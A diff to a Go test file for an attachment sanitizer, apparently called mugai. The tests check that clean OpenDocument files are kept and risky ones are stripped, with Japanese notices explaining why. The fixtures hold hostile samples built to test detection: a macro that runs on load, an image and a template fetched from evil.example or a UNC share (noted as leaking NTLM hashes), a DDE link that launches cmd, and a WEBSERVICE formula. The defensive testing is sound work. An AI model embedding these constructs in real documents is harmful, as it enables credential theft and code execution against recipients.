@@ -16,6 +16,7 @@ import (
 	"golang.org/x/text/encoding/japanese"
 
 	"mugai/config"
+	"mugai/sanitize/filetype"
 )
 
 // TestBlocksKeeping: what a file holds is the reason given before what
@@ -48,6 +49,9 @@ func TestBlocksKeeping(t *testing.T) {
 		{[]string{"office: link to a network share (UNC path) in word/_rels/document.xml.rels"}, "document links to a network share (UNC path)"},
 		{[]string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}, "document could not be fully inspected"},
 		{[]string{"office: external reference image in word/_rels/document.xml.rels"}, "document with active or embedded content"},
+		{[]string{filetype.ODFLinked + " draw:image xlink:href (a network share) in Object macro/content.xml"}, linkedContentReason},
+		{[]string{filetype.ODFNotInspected + " content.xml: DTD", filetype.ODFMacro + " script:event-listener in content.xml"}, "office document with macros"},
+		{[]string{filetype.ODFNotInspected + " (encrypted)", "office: encrypted document"}, "encrypted content cannot be inspected"},
 	} {
 		if got := blocksKeeping(tt.findings); got != tt.want {
 			t.Errorf("blocksKeeping(%q) = %q, want %q", tt.findings, got, tt.want)
@@ -461,39 +465,116 @@ func TestCalendarAndContactNotKept(t *testing.T) {
 	}
 }
 
-// TestODFNotKept: an OpenDocument file binds macros to events and links
-// content from shares in XML mugai does not read (red team: an ODT
-// running an installed macro on load, an image from \\evil\s), so a keep
-// rule listing it does not keep it: it could not be fully inspected, and
-// neither could an archive holding one.
-func TestODFNotKept(t *testing.T) {
-	zipOf := func(files ...string) []byte { // name, data, name, data, ...
-		var b bytes.Buffer
-		z := zip.NewWriter(&b)
-		for i := 0; i+1 < len(files); i += 2 {
-			w, err := z.Create(files[i])
-			if err != nil {
-				t.Fatal(err)
-			}
-			w.Write([]byte(files[i+1]))
+// odtOf is an OpenDocument text whose office:text holds body, with
+// extra members (name, data, ...) after the parts LibreOffice writes.
+func odtOf(t *testing.T, body string, extra ...string) []byte {
+	const ns = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"`
+	files := append([]string{
+		"mimetype", "application/vnd.oasis.opendocument.text",
+		"META-INF/manifest.xml", `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
+		"content.xml", `<?xml version="1.0" encoding="UTF-8"?><office:document-content ` + ns + ` office:version="1.3"><office:scripts/><office:body><office:text>` + body + `</office:text></office:body></office:document-content>`,
+		"meta.xml", `<?xml version="1.0" encoding="UTF-8"?><office:document-meta ` + ns + `><office:meta><meta:generator>LibreOffice/7.6</meta:generator></office:meta></office:document-meta>`,
+	}, extra...)
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	for i := 0; i+1 < len(files); i += 2 {
+		method := zip.Deflate
+		if files[i] == "mimetype" {
+			method = zip.Store // first and stored, as ODF 1.2 part 3, 3.3 says
 		}
+		w, err := z.CreateHeader(&zip.FileHeader{Name: files[i], Method: method})
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(files[i+1]))
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// TestODFKept: a clean OpenDocument file is kept by a rule listing it,
+// attached or in a kept archive, its web links counted as a kept
+// Office document's are; mugai reads its XML for what it runs and
+// fetches (TestODFNotKept).
+func TestODFKept(t *testing.T) {
+	odt := odtOf(t, `<text:p>議事録 <text:a xlink:type="simple" xlink:href="https://www.city.example.lg.jp/">市</text:a> <text:a xlink:href="#__RefHeading___Toc1">目次</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>`,
+		"Pictures/a.png", "\x89PNG\r\n\x1a\n")
+	pol := defaultPolicy(t)
+	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".odt", ".zip"}}}
+	var zb bytes.Buffer
+	z := zip.NewWriter(&zb)
+	w, _ := z.Create("資料/案内.odt")
+	w.Write(odt)
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	for _, file := range []attached{
+		{"案内.odt", "application/vnd.oasis.opendocument.text", odt},
+		{"資料.zip", "application/zip", zb.Bytes()},
+	} {
+		rep, out := rebuilt(t, withAttachments(file), pol)
+		if p := rep.Parts[1]; p.Decision != DecisionKeep || p.Reason != "allowed by a keep rule; 1 link left clickable" {
+			t.Errorf("%s: %s (%s), want kept with its one web link counted", file.name, p.Decision, p.Reason)
+		}
+		if text := decodedText(t, out); !strings.Contains(text, "リンクはクリックできる形のままです") {
+			t.Errorf("%s: notice does not name the link left clickable:\n%s", file.name, text)
+		}
+	}
+}
+
+// TestODFNotKept: an OpenDocument file that runs a macro or a program,
+// loads content from outside itself (red team: an ODT running an
+// installed macro on load, an image from \\evil\s: the NTLM hash) or
+// links to a share, or whose XML cannot be read, is not kept by a rule
+// listing it, attached or in an archive, and the notice says why.
+func TestODFNotKept(t *testing.T) {
+	pol := defaultPolicy(t)
+	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".odt", ".zip"}}}
+	const (
+		macros = "マクロを含む文書のため"
+		linked = "開いたときや再計算のときに、文書の外（ファイル・共有フォルダ・Web・データベース・他のプログラム）から内容を読み込む指定を含む文書のため"
+	)
+	for _, tt := range []struct {
+		name     string
+		odt      []byte
+		reason   string
+		jpReason string
+	}{
+		{"macro on load", odtOf(t, `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/></office:event-listeners>`),
+			"office document with macros", macros},
+		{"Basic library of a subdocument", odtOf(t, "", "Object 1/Basic/Standard/Module1.xml", `<script:module/>`), "office document with macros", macros},
+		{"image on a share", odtOf(t, `<draw:frame><draw:image xlink:href="\\evil.example\s\a.png" xlink:actuate="onLoad"/></draw:frame>`),
+			linkedContentReason, linked},
+		{"remote template", odtOf(t, "", "meta.xml", `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta><meta:template xlink:href="http://evil.example/t.ott"/></office:meta></office:document-meta>`),
+			linkedContentReason, linked},
+		{"DDE", odtOf(t, `<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>`),
+			linkedContentReason, linked},
+		{"WEBSERVICE", odtOf(t, `<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/></table:table-row></table:table>`),
+			linkedContentReason, linked},
+		{"hyperlink to a share", odtOf(t, `<text:p><text:a xlink:href="\\evil\s\x.odt">x</text:a></text:p>`),
+			"document links to a network share (UNC path)", "共有フォルダへのリンク（UNCパス）を含む文書のため"},
+		{"content not XML", odtOf(t, `<text:p>`), "document could not be fully inspected", "文書を検査しきれないため"},
+	} {
+		var zb bytes.Buffer
+		z := zip.NewWriter(&zb)
+		w, _ := z.Create("案内.odt")
+		w.Write(tt.odt)
 		if err := z.Close(); err != nil {
 			t.Fatal(err)
 		}
-		return b.Bytes()
-	}
-	odt := zipOf("mimetype", "application/vnd.oasis.opendocument.text",
-		"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`,
-		"content.xml", `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><draw:frame><draw:image xlink:href="\\\\evil.example\\s\\a.png" xlink:actuate="onLoad"/></draw:frame></office:text></office:body></office:document-content>`)
-	pol := defaultPolicy(t)
-	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".odt", ".zip"}}}
-	for _, file := range []attached{
-		{"案内.odt", "application/vnd.oasis.opendocument.text", odt},
-		{"資料.zip", "application/zip", zipOf("案内.odt", string(odt))},
-	} {
-		rep, _ := rebuilt(t, withAttachments(file), pol)
-		if p := rep.Parts[1]; p.Decision != DecisionStrip || !strings.Contains(p.Reason, "could not be fully inspected") {
-			t.Errorf("%s: %s (%s), want it stripped as not fully inspected", file.name, p.Decision, p.Reason)
+		for _, file := range []attached{
+			{"案内.odt", "application/vnd.oasis.opendocument.text", tt.odt},
+			{"資料.zip", "application/zip", zb.Bytes()},
+		} {
+			rep, out := rebuilt(t, withAttachments(file), pol)
+			if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != tt.reason {
+				t.Errorf("%s, %s: %s (%s), want stripped: %s", tt.name, file.name, p.Decision, p.Reason, tt.reason)
+			}
+			if text := decodedText(t, out); !strings.Contains(text, tt.jpReason) {
+				t.Errorf("%s, %s: notice does not say %s:\n%s", tt.name, file.name, tt.jpReason, text)
+			}
 		}
 	}
 }
